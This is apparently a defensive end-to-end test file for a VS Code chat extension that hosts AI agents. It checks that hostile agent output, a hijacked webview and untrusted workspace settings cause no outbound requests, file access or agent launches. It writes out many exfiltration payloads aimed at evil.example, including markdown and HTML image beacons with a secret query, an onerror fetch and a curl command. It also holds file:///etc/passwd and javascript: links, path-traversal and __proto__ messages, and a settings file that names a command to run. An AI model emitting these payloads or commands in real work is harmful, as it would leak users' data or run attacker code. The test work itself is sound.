// A conversation that wants out: an agent that answers with everything that could make a page ask somebody for something,
// while it comes and after a reload; its links; and a page that was taken over, which says what it likes to the host.

import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Workbench } from '../vscode/workbench.ts';
import { copyOfSample } from '../vscode/workspace.ts';
import { articles, ask, installed, pressSettled, send, scriptedAgent } from './panel.ts';

const patience = { timeout: 180_000 };
const evil = 'https://evil.example';
const steered = [
  'command:workbench.action.quit',
  'vscode://x/y',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'data:text/html,x',
];

const words = [
  `![a](${evil}/1.png?q=secret) ![b][r] [![c](${evil}/2.png)](${evil}/in)`,
  `<img src="${evil}/3.png" srcset="${evil}/4.png 2x" onerror="fetch('${evil}/5')">`,
  `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}/6.png"/><use href="${evil}/7.svg#a"/></svg>`,
  `<style>@import "${evil}/8.css"; body { background: url(${evil}/9.png) }</style>`,
  `<link rel="stylesheet" href="${evil}/10.css"> <iframe src="${evil}/11"></iframe> <script src="${evil}/12.js"></script>`,
  `<video poster="${evil}/13.png" src="${evil}/14.mp4"></video> <object data="${evil}/15"></object> <embed src="${evil}/16">`,
  `<base href="${evil}/"> <meta http-equiv="refresh" content="0;url=${evil}/17"> <form action="${evil}/18"></form>`,
  `[safe](${evil}/in) <${evil}/auto> www.evil.example/www mail@evil.example`,
  ...steered.map((address, at) => `[dead ${at}](${address}) <${address}>`),
  `| ![t](${evil}/19.png) | <img src=${evil}/20.png> |\n| - | - |\n| ![u](${evil}/21.png) | x |`,
  `\`\`\`mermaid\ngraph LR; A[<img src='${evil}/22.png'>]-->B\n\`\`\``,
  `\`\`\`html\n<img src="${evil}/23.png">\n\`\`\``,
  `[r]: ${evil}/24.png "${evil}/25.png"`,
].join('\n\n');
const image = { type: 'image', mimeType: 'image/png', data: '', uri: `${evil}/26.png` };
const vector = { type: 'image', mimeType: 'image/svg+xml', data: btoa(`<svg><image href="${evil}/27.png"/></svg>`) };
const chunk = (content: object) => ({ update: { sessionUpdate: 'agent_message_chunk', content } });
const call = { toolCallId: 't1', title: `<img src=${evil}/28.png> ![x](${evil}/29.png)`, kind: 'execute' };

const steps = [
  { think: words },
  { say: words },
  chunk(image),
  chunk(vector),
  chunk({ type: 'resource_link', uri: `${evil}/30.png`, name: `<img src=${evil}/31.png>`, mimeType: 'image/png' }),
  chunk({ type: 'resource', resource: { uri: `${evil}/32.html`, mimeType: 'text/html', text: words } }),
  {
    update: {
      sessionUpdate: 'tool_call',
      ...call,
      status: 'pending',
      rawInput: { command: `curl ${evil}/33 \u202e\u200b` },
      content: [
        { type: 'content', content: { type: 'text', text: words } },
        { type: 'content', content: image },
        { type: 'diff', path: `/tmp/<img src=${evil}/34.png>`, oldText: words, newText: `${words}!` },
      ],
    },
  },
  { update: { sessionUpdate: 'plan', entries: [{ content: words, priority: 'high', status: 'pending' }] } },
  { ask: { toolCall: call, options: [{ optionId: 'yes', name: `<img src=${evil}/35.png>`, kind: 'allow_once' }] } },
];

test('[W94] [W92] [W93] nothing that an agent says or a page tries leads out', patience, async t => {
  const { settings } = scriptedAgent();
  const { folder, started } = hostileFolder();
  const window = await installed(t, { settings }, folder);
  // What the page is given to talk to the host by is kept by the page alone; here somebody else has it too.
  await window.page.context().addInitScript(() => {
    Object.defineProperty(globalThis, 'acquireVsCodeApi', {
      configurable: true,
      set(acquire: () => unknown) {
        const value = () => ((globalThis as { stolen?: unknown }).stolen = acquire());
        Object.defineProperty(globalThis, 'acquireVsCodeApi', { configurable: true, value });
      },
    });
  });
  await window.reload();
  await window.showChat();
  await send(window, `play: ${JSON.stringify(steps)}`);
  const asked = window.chat().getByRole('group', { name: 'Permission needed' });
  await asked.waitFor();

  await t.test('[W93] what is asked stands there to the last character', async () => {
    await asked.getByText('⟦U+202E⟧⟦U+200B⟧').first().waitFor();
  });

  await t.test('[W94] nothing is asked of anybody while it comes', () => quiet(window));

  await t.test('[W92] what a page says that was taken over is not done', async () => {
    const session = await shownSession(window);
    const names = ['../../../../tmp/escaped', '__proto__', session];
    const said: readonly unknown[] = [
      ...steered.map(url => ({ type: 'openLink', url })),
      { type: 'openLink', url: 'https://bank.example@evil.example/' },
      ...names.map(name => ({ type: 'keepDraft', session: `${name}x`, text: 'escaped' })),
      ...names.map(permission => ({ type: 'answerPermission', session, permission, choice: 'yes' })),
      { type: 'answerPermission', session: 'another', permission: 'permission1', choice: 'yes' },
      { type: 'cancelTurn', session: 'another' },
      { type: 'sendPrompt', request: 'r', session, text: 'x', attached: ['/etc/passwd'] },
      { type: 'openLocation', session, message: 'm', block: 0, location: 0, path: '/etc/passwd' },
      { type: 'runCommand', command: 'workbench.action.quit' },
      { type: 'sendPrompt', request: 'r', session, text: 'x'.repeat(5_000_000) },
      JSON.parse('{"__proto__": {"type": "cancelTurn"}}'),
    ];
    await window
      .chat()
      .locator('body')
      .evaluate(async (_, all) => {
        const { stolen } = globalThis as unknown as { stolen: { postMessage(message: unknown): void } };
        for (const one of JSON.parse(all) as readonly unknown[]) stolen.postMessage(one);
        // What is answered to this comes after all of those.
        const answered = new Promise<void>(resolve =>
          addEventListener('message', ({ data }: MessageEvent<{ event?: { type?: string } }>) => {
            if (data.event?.type === 'snapshot') resolve();
          }),
        );
        stolen.postMessage({ type: 'requestSnapshot' });
        await answered;
      }, JSON.stringify(said));
    await asked.waitFor();
    assert.equal(await window.page.locator('.monaco-dialog-box').count(), 0, 'nothing was opened');
    assert.equal(await window.page.locator('.editor-group-container .tab').count(), 0, 'and no file');
    assert.ok(!existsSync('/tmp/escaped'));
    const files = readdirSync(window.server.home, { recursive: true, encoding: 'utf8' });
    assert.deepEqual(
      files.filter(file => /drafts.*(escaped|proto|x$)/.test(file)),
      [],
    );
  });

  await t.test('[W94] dead links do nothing, and one of the web asks', async () => {
    await pressSettled(asked.getByRole('button', { name: /img src/ }));
    await window.chat().getByRole('button', { name: 'Stop' }).waitFor({ state: 'hidden' });
    const answer = articles(window).nth(1);
    const dead = answer.locator('.blocks > .words .deadLink');
    assert.ok((await dead.count()) >= steered.length, 'they are there');
    for (const link of await dead.all()) await link.click();
    assert.equal(await window.page.locator('.monaco-dialog-box').count(), 0);
    await answer.locator('.blocks > .words').getByRole('link', { name: 'safe' }).click();
    const dialog = window.page.locator('.monaco-dialog-box');
    await dialog.getByText(`${evil}/in`).waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached' });
  });

  await t.test('[W94] nothing is asked of anybody after a reload', async () => {
    await window.reload();
    await articles(window).nth(1).waitFor();
    for (const fold of await articles(window).nth(1).locator('.fold').all()) await fold.click();
    await articles(window).nth(1).locator('.image').first().waitFor();
    await quiet(window);
  });

  await t.test('[W95] what a workspace writes in its settings starts nothing', () => assert.equal(started(), false));

  await t.test('[W94] what a page would ask for is seen here', async () => {
    const refused = window.page.waitForEvent('console', message => message.text().includes(`${evil}/seen.png`));
    await window
      .chat()
      .locator('body')
      .evaluate((_, src) => void Object.assign(new Image(), { src }), `${evil}/seen.png`);
    await refused;
  });
});

test('[W95] in Restricted Mode no agent but the built-in one is started', patience, async t => {
  const { folder, started, touch } = hostileFolder();
  const settings = { 'throughline.agent': 'Mine', 'throughline.agents': { Mine: touch } };
  const window = await installed(t, { settings, trusted: false }, folder);
  await window.showChat();
  await window.chat().getByText('Restricted').first().waitFor();
  assert.match(await ask(window, 'warehouse'), /not an AI|orders\//);
  await window.runCommand('Throughline: Select Agent');
  const rows = window.page.locator('.quick-input-list .monaco-list-row');
  await rows.first().waitFor();
  assert.deepEqual(await rows.filter({ hasText: /Mine|Theirs/ }).count(), 0);
  assert.equal(started(), false);
});

/** Settings of a workspace that somebody else wrote: they name an agent, which would leave a file behind. */
function hostileFolder() {
  const folder = copyOfSample();
  const mark = join(mkdtempSync(join(tmpdir(), 'throughline-mark-')), 'started');
  const script = `require('node:fs').writeFileSync(${JSON.stringify(mark)}, '')`;
  const touch = { command: process.execPath, args: ['-e', script] };
  const settings = {
    'throughline.agent': 'Theirs',
    'throughline.agents': { Theirs: touch, Scripted: touch },
    'throughline.mcpServers': { theirs: touch },
  };
  mkdirSync(join(folder, '.vscode'), { recursive: true });
  writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(settings));
  return { folder, touch, started: () => existsSync(mark) };
}

/** Not even tried: what the policy of the page refuses is an error in the console. */
async function quiet(window: Workbench): Promise<void> {
  // All that a page loads is asked for by the time that it was drawn twice.
  await window
    .chat()
    .locator('body')
    .evaluate(() => new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn))));
  assert.deepEqual(window.foreignRequests(), []);
  assert.deepEqual(
    window.logs().filter(({ text }) => /evil\.example|Content Security Policy|Trusted Type/i.test(text)),
    [],
  );
}

async function shownSession(window: Workbench): Promise<string> {
  const state = await window
    .chat()
    .locator('body')
    .evaluate(() => (globalThis as unknown as { stolen: { getState(): { session: string } } }).stolen.getState());
  return state.session;
}
